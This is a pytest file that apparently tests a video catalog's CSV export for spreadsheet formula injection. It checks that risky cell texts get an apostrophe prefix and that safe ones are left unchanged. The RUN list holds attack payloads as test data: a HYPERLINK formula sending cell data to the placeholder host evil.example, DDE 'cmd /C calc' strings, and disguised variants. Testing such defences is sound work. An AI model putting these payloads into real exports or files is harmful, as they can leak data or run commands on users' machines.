"""CSV that a spreadsheet opens without running what it says."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest

from catalog.library import open_library
from catalog.web.cells import safe_cell
from tests.web.conftest import Site, add_video, serving

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

RUN = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,2)",
    "\t=1+1",
    "\rcmd",
    "\n=1",
    "  =1+1",
    "\x00=1+1",
    "\ufeff=1",
    "\uff1d1+1",  # full-width, which some fold
    "\uff20SUM(A1)",
    "-",
    "- a list\n- of things",
    "--5",
    "+49 170 123",
    "-5e",
    "=",
]
KEPT = [
    "-5",
    "+5",
    "-0.5",
    "-.5e-3",
    "1e5",
    "a neon street",
    "a=b",
    "5-3",
    "",
    "'=1",
    "東京",
    "e-mail@example.com",
    "# 1",
]


@pytest.mark.parametrize("text", RUN)
def test_a_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*KEPT, -5, -5.5, 0, None, True])
def test_everything_else_stays_as_it_is(value: object) -> None:
    assert safe_cell(value) is value


@pytest.fixture(scope="module")
def sheet(_migrated: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    path = tmp_path_factory.mktemp("sheet") / "catalog.db"
    path.write_bytes(_migrated.read_bytes())
    library = open_library(path)
    with library.write() as connection:
        for number, text in enumerate(RUN + KEPT):
            add_video(connection, f"v{number}", prompt=text, seconds=-5.0)
    library.close()
    with serving(path, allow_sql=True) as running:
        yield running


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("query", ["_size=max", "_size=max&_dl=on", "_stream=on", "_stream=on&_labels=on"])
def test_exports_of_a_table_are_safe(sheet: Site, query: str) -> None:
    rows = read(sheet.get(f"/catalog/videos.csv?_sort=id&{query}").text)
    expected = ["'" + text.replace("\x00", "") for text in RUN] + KEPT
    assert [row["prompt"].replace("\x00", "") for row in rows] == expected
    assert {row["seconds"] for row in rows} == {"-5.0"}


def test_exports_of_a_query_are_safe_to_the_headings(sheet: Site) -> None:
    sql = "select '=1+1' as \"=2+2\", -5 as n, '-5' as text"
    assert read(sheet.get("/catalog.csv", params={"sql": sql}).text) == [{"'=2+2": "'=1+1", "n": "-5", "text": "-5"}]


def test_pages_and_json_show_texts_as_they_are(sheet: Site) -> None:
    assert [row["prompt"] for row in sheet.rows("videos", _sort="id", _size="max")] == RUN + KEPT
